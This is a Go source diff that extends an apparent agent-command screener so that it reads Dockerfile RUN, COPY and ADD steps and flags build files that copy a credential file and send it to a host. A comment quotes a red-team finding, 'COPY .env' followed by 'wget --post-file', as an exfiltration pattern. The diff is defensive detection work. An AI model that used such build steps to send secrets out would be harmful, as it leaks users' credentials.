@@ -7,9 +7,11 @@ import (
 )
 
 // BuildCommands returns the command lines a build file written to p
-// holds, which a short command the agent runs later (npm test, make)
-// runs without naming them (package.json's scripts, a Makefile's
-// recipes), or the editor runs (its tasks). nil for any other file.
+// holds, which a short command the agent runs later (npm test, make,
+// docker build) runs without naming them (package.json's scripts, a
+// Makefile's recipes, a Dockerfile's RUN and COPY), or the editor runs
+// (its tasks). nil for any other file. They run together: a file one
+// copies another may send (Flow).
 func BuildCommands(p, text string) []string {
 	switch strings.ToLower(path.Base(strings.ReplaceAll(p, `\`, "/"))) {
 	case "package.json":
@@ -46,6 +48,8 @@ func BuildCommands(p, text string) []string {
 			}
 		}
 		return out
+	case "dockerfile", "containerfile":
+		return dockerCommands(text)
 	case "makefile", "gnumakefile", "justfile":
 		var out []string
 		for _, line := range strings.Split(text, "\n") {
@@ -56,4 +60,40 @@ func BuildCommands(p, text string) []string {
 		return out
 	}
 	return nil
+}
+
+// dockerCommands returns a Dockerfile's RUN lines, and its COPY and ADD
+// of the build's own files as the cp they are: COPY .env /e, then RUN
+// wget --post-file=/e … sends the file (found by a red team, RT8-6).
+func dockerCommands(text string) []string {
+	var out []string
+	text = strings.ReplaceAll(text, "\\\n", " ")
+	for _, line := range strings.Split(text, "\n") {
+		f := strings.Fields(line)
+		if len(f) < 2 {
+			continue
+		}
+		switch strings.ToUpper(f[0]) {
+		case "RUN":
+			out = append(out, strings.Join(f[1:], " "))
+		case "COPY", "ADD":
+			if !strings.HasPrefix(f[1], "--from") {
+				out = append(out, "cp "+strings.Join(f[1:], " "))
+			}
+		}
+	}
+	return out
+}
+
+// Flow returns the finding of a build file's commands read as one line:
+// a credential file one of them copies or reads and a host another
+// reaches. Asked about, not refused: a Dockerfile may COPY .env for the
+// app it builds and fetch a package in another step.
+func Flow(cmds []string) (Finding, bool) {
+	for _, f := range ScreenUnwatched(strings.Join(cmds, "\n")).Findings {
+		if f.Rule == UploadSecret {
+			return Finding{Rule: Upload, Reason: "its commands, run together: " + f.Reason}, true
+		}
+	}
+	return Finding{}, false
 }
